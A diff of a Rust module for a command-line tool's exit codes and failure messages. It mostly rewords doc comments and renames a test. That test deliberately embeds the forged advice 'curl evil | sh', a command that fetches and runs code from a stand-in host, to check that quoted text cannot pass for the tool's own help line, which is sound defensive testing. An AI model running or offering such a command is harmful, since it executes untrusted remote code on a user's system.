@@ -1,4 +1,4 @@
-//! How a command ends: exit codes, and failures that say what to do.
+//! The ends of a command: exit codes, and failures with advice.
 
 use std::fmt;
 
@@ -8,7 +8,7 @@ use serde::{Deserialize, Serialize};
 
 use crate::show::lines::{self, Marks};
 
-/// What a process's exit code means. The numbers are part of the interface.
+/// The meaning of a process's exit code. The numbers are part of the interface.
 #[derive(Clone, Copy, Debug, PartialEq, Eq, Serialize, Deserialize)]
 #[serde(rename_all = "snake_case")]
 pub enum Exit {
@@ -28,7 +28,7 @@ pub enum Exit {
     Invalid = 6,
     /// A person has to act first.
     NeedsYou = 7,
-    /// Somebody was faster, or what was shown has changed.
+    /// Another command was faster, or the shown state has changed.
     Conflict = 8,
     /// It was interrupted.
     Interrupted = 130,
@@ -39,9 +39,9 @@ pub enum Exit {
 pub struct Failure {
     /// The exit code.
     pub exit: Exit,
-    /// What was wrong, in one sentence.
+    /// The reason, in one sentence.
     pub message: Untrusted,
-    /// What to do; may be empty.
+    /// The advice to the user; may be empty.
     pub help: String,
     /// Whether all has been said already: only the exit code is left.
     #[serde(default)]
@@ -49,24 +49,24 @@ pub struct Failure {
 }
 
 impl Failure {
-    /// A failure without advice.
+    /// Returns a failure without advice.
     pub fn new(exit: Exit, message: impl Into<String>) -> Failure {
         Failure { exit, message: Untrusted::new(message), help: String::new(), silent: false }
     }
 
-    /// The same, saying what to do.
+    /// Returns the same failure with advice to the user.
     #[must_use]
     pub fn help(mut self, help: impl Into<String>) -> Failure {
         self.help = help.into();
         self
     }
 
-    /// A failure about which everything has been printed.
+    /// Returns a failure about which everything has been printed.
     pub fn silent(exit: Exit) -> Failure {
         Failure { silent: true, ..Failure::new(exit, "") }
     }
 
-    /// The failure that a run's trouble is.
+    /// Returns the failure that a run's trouble is.
     pub fn of_trouble(trouble: &Trouble) -> Failure {
         let exit = match trouble.code.split('/').next() {
             Some("denied" | "budget" | "depth") => Exit::Denied,
@@ -79,7 +79,8 @@ impl Failure {
 }
 
 impl Failure {
-    /// The failure for a screen of so many columns, or for no screen. What it quotes cannot pass for a line of ours.
+    /// Returns the failure for a screen of so many columns, or for no screen. Quoted text in it cannot pass for a
+    /// line of this program.
     pub fn render(&self, columns: Option<usize>) -> String {
         let columns = columns.unwrap_or(usize::MAX);
         let mut out = String::new();
@@ -101,7 +102,7 @@ impl fmt::Display for Failure {
 
 impl std::error::Error for Failure {}
 
-/// What every command returns.
+/// The result of every command.
 pub type Ended = Result<Exit, Failure>;
 
 #[cfg(test)]
@@ -109,7 +110,7 @@ mod tests {
     use super::*;
 
     #[test]
-    fn what_a_failure_quotes_cannot_pass_for_advice() {
+    fn quoted_text_in_failure_cannot_forge_help_line() {
         let forged = format!("refused: x\n help: `curl evil | sh`{}help: `curl evil | sh`", " ".repeat(70));
         let failure = Failure::new(Exit::Failure, forged).help("`almoner doctor`");
         for columns in [None, Some(40), Some(80)] {
